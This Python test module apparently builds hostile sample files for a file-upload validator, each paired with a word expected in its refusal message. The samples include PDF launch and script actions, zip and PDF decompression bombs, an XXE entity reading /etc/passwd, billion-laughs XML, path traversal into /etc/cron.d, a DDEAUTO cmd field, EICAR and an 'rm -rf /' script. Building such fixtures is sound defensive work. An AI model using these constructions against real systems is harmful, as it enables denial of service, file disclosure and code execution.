"""Harmful or suspect files, each made on demand, with words from the message that refuses it."""

import zlib
from collections.abc import Callable
from io import BytesIO
from struct import pack
from zipfile import ZIP_STORED, ZipFile, ZipInfo

from pypdf import PdfWriter
from pypdf.generic import (
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from handrail.cases.files.inside.refusing import EICAR, MEGABYTE
from handrail.cases.files.tests.sound import (
    UNSHOWN,
    archive,
    docx,
    jpeg,
    link,
    odt_with,
    pdf,
    png,
    word,
    writer,
    written,
)

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def action(kind: str, **more: str) -> bytes:
    made = writer()
    said: dict[PdfObject, PdfObject] = {NameObject("/S"): NameObject(kind)}
    said |= {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
    made.root_object[NameObject("/OpenAction")] = DictionaryObject(said)
    return written(made)


def with_a_file() -> bytes:
    made = writer()
    made.add_attachment("inside.exe", b"MZ")
    return written(made)


def locked() -> bytes:
    made = writer()
    made.encrypt("secret", algorithm="AES-256")
    return written(made)


def with_packed_list(data: bytes) -> PdfWriter:
    """Return a PDF with this data as an object stream."""
    made = writer()
    packed = StreamObject()
    packed[NameObject("/Filter")] = NameObject("/FlateDecode")
    packed[NameObject("/Type")] = NameObject("/ObjStm")
    packed[NameObject("/N")] = NumberObject(1)
    packed[NameObject("/First")] = NumberObject(4)
    packed._data = data
    made._add_object(packed)
    return made


def bomb_in_pdf() -> bytes:
    """Return a PDF whose cross-reference table depends on an object stream of a gigabyte of zeros."""
    made = with_packed_list(zeros(1024))
    whole = written(made)
    number = len(made._objects)
    table = pack(">BHB", 2, number, 0)
    at = len(whole)
    stream = (
        f"\n99 0 obj<</Type/XRef/Size 100/W[1 2 1]/Index[50 1]/Root 2 0 R/Prev {_last_table(whole)}"
        f"/Length {len(table)}>>stream\n"
    ).encode()
    return whole + stream + table + f"\nendstream endobj\nstartxref\n{at + 1}\n%%EOF\n".encode()


def _last_table(content: bytes) -> int:
    return int(content.rsplit(b"startxref", 1)[1].split()[0])


def in_a_packed_list() -> bytes:
    """Return a PDF with a script in a compressed object stream, where no search of the raw bytes finds it."""
    return written(with_packed_list(zlib.compress(b"9 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")))


def zeros(megabytes: int) -> bytes:
    """Return this many megabytes of zeros, compressed, made by repeating one block."""
    packing = zlib.compressobj(9)
    first, again = (packing.compress(bytes(MEGABYTE)) + packing.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (megabytes - 1) + packing.flush()


def office_bomb(megabytes: int) -> bytes:
    out = BytesIO(archive(word()))
    with ZipFile(out, "a") as made, made.open(_packed("word/media.xml"), "w") as member:
        for _ in range(megabytes):
            member.write(b" " * MEGABYTE)
    return out.getvalue()


def _packed(name: str) -> ZipInfo:
    found = ZipInfo(name)
    found.compress_type = 8
    return found


def lying_bomb() -> bytes:
    """Return an office file whose directory states a small size for its largest part."""
    whole = bytearray(office_bomb(120))
    size, lie = pack("<I", 120 * MEGABYTE), pack("<I", 10)
    while (at := whole.find(size)) >= 0:
        whole[at : at + 4] = lie
    return bytes(whole)


def overlapping() -> bytes:
    """Return an archive whose directory names one compressed part many times."""
    whole = archive({"a.xml": bytes(MEGABYTE), **word()})
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    directory = whole[start:end]
    first = directory[: 46 + len("a.xml")]
    names = [first.replace(b"a.xml", f"{n:05}"[-5:].encode()) for n in range(90)]
    listed = b"".join(names) + directory
    count = listed.count(b"PK\x01\x02")
    tail = pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed), start, 0)
    return whole[:start] + listed + tail


def linked() -> bytes:
    out = BytesIO(archive(word()))
    with ZipFile(out, "a") as made:
        member = ZipInfo("word/media/passwd.png")
        member.external_attr = 0o120777 << 16
        made.writestr(member, "/etc/passwd")
    return out.getvalue()


def two_faced() -> bytes:
    """Return an archive with a member whose name differs between the directory and its own header."""
    whole = archive(word(more={"word/plain.xml": "<a/>"}), ZIP_STORED)
    return whole.replace(b"word/plain.xml", b"word/macro.bin", 1)


def field(text: str) -> bytes:
    return archive(word(f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>"))


Made = Callable[[], bytes]
HOSTILE: dict[str, tuple[Made, str]] = {
    "a PDF that runs a script": (lambda: action("/JavaScript", JS="app.alert(1)"), "script"),
    "a PDF that starts a program": (lambda: action("/Launch", F="cmd.exe"), "starts a program"),
    "a PDF that sends what is typed": (lambda: action("/SubmitForm", F="http://x.example"), "form"),
    "a PDF that opens another": (lambda: action("/GoToR", F="\\\\host\\x.pdf"), "another file"),
    "a PDF with a file inside": (with_a_file, "holds other files"),
    "a PDF under a password": (locked, "password"),
    "a PDF with a script under an escaped name": (
        lambda: action("/JavaScript", JS="x").replace(b"/JavaScript", b"/Java#53cript"),
        "script",
    ),
    "a PDF with a script in a packed list": (in_a_packed_list, "script"),
    "a PDF that unpacks to a gigabyte": (bomb_in_pdf, UNSHOWN),
    "a PDF with an archive behind it": (lambda: pdf() + archive({"a.class": b"\xca\xfe"}), "archive"),
    "a PDF with a web page behind it": (lambda: pdf() + b"<script>alert(1)</script>", "follows"),
    "a PDF with something before it": (lambda: b"\n\n" + pdf(), "before the PDF"),
    "a PDF with 1,200 pages": (lambda: written(writer(1200)), "pages"),
    "a PDF cut in half": (lambda: pdf()[: len(pdf()) // 2], "does not end"),
    "an archive bomb": (lambda: archive({f"{n}.txt": bytes(MEGABYTE) for n in range(50)}), "archive"),
    "a Word document that unpacks to 150 megabytes": (lambda: office_bomb(150), "far more"),
    "a Word document that lies about that": (lying_bomb, "too involved"),
    "a Word document of parts that overlap": (overlapping, "damaged"),
    "a Word document of 5,000 parts": (
        lambda: archive(word(more={f"word/{n}.xml": "<a/>" for n in range(5000)})),
        "far more",
    ),
    "a Word document that would write elsewhere": (
        lambda: archive(word(more={"../../etc/cron.d/x.xml": "<a/>"})),
        "damaged",
    ),
    "a Word document with a link in the file system": (linked, "damaged"),
    "a Word document with two faces": (two_faced, "damaged"),
    "a Word document with macros": (lambda: archive(word(main=MACROS)), "macros"),
    "a Word document with macros under a plain type": (
        lambda: archive(word(more={"word/vbaProject.bin": b"\xd0\xcf"})),
        "macros",
    ),
    "a Word document whose template lies elsewhere": (
        lambda: archive(word(links=link("attachedTemplate", "http://x.example/t.dotm"))),
        "another place",
    ),
    "a Word document that signs in at a stranger's": (
        lambda: archive(word(links=link("image", "file://host/share/a.png"))),
        "another place",
    ),
    "a Word document that starts a program": (lambda: field('DDEAUTO "cmd" "/c calc"'), "another place"),
    "a Word document that hides how it starts a program": (
        lambda: field("DD<!-- -->&#69;AUTO cmd"),
        "another place",
    ),
    "an OpenDocument text that shows a picture from elsewhere": (
        lambda: odt_with('<d:image xmlns:d="urn:draw" xmlns:x="urn:link" x:href="http://x.example/a.png"/>'),
        "another place",
    ),
    "an OpenDocument text with macros": (lambda: odt_with("", {"Basic/a/b.xml": "<a/>"}), "macros"),
    "a Word document of a billion laughs": (lambda: archive(word(declared=LAUGHS)), "declares"),
    "a Word document that reads files of the server": (
        lambda: archive(word(declared='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
        "declares",
    ),
    "a Word document with another archive inside": (
        lambda: archive(word(more={"word/media/a.png": docx()})),
        "false name",
    ),
    "a Word document with a program inside": (
        lambda: archive(word(more={"word/a.exe": b"MZ"})),
        "another file",
    ),
    "a Word document with something behind it": (lambda: docx() + b"more", "follows the end"),
    "a picture of 50,000 by 50,000 dots": (lambda: png(50_000, 50_000), "50,000 by 50,000"),
    "a photograph of 60,000 by 60,000 dots": (lambda: jpeg(60_000, 60_000), "60,000 by 60,000"),
    "a picture with a packed text of a gigabyte": (
        lambda: png(3, 2, (b"zTXt", b"Comment\0\0" + zeros(1024))),
        "packed data",
    ),
    "a picture that is an archive, too": (lambda: png() + archive({"a.class": b"x"}), "archive"),
    "a photograph that is a program of Java, too": (lambda: jpeg() + archive({"a.class": b"x"}), "archive"),
    "a photograph with a script behind it": (lambda: jpeg() + b"<?php x();", "more in the file"),
    "a picture cut in half": (lambda: png()[:60], "damaged"),
    "a drawing that runs a script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "web page",
    ),
    "a web page": (lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><p>", "web page"),
    "a text with a script in it": (lambda: b"Dear all,\n<script>alert(1)</script>", "script"),
    "a program": (lambda: b"MZ\x90\0" + bytes(100), "program"),
    "a script": (lambda: b"#!/bin/sh\nrm -rf /\n", "script"),
    "an old Word document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office"),
    "a rich text": (lambda: b"{\\rtf1 {\\object}}", "rich text"),
    "an animation": (lambda: b"GIF89a" + bytes(40), "GIF"),
    "a film": (lambda: b"\0\0\0\x18ftypmp42" + bytes(40), "film"),
    "a text with what no keyboard types": (lambda: b"Dear all\0\x01\x02", "not a kind"),
    "nothing": (lambda: b"", "empty"),
    "the test of virus scanners": (lambda: EICAR, "virus"),
    "the test of virus scanners in a Word document": (
        lambda: archive(word(more={"word/media/a.png": EICAR})),
        "virus",
    ),
}
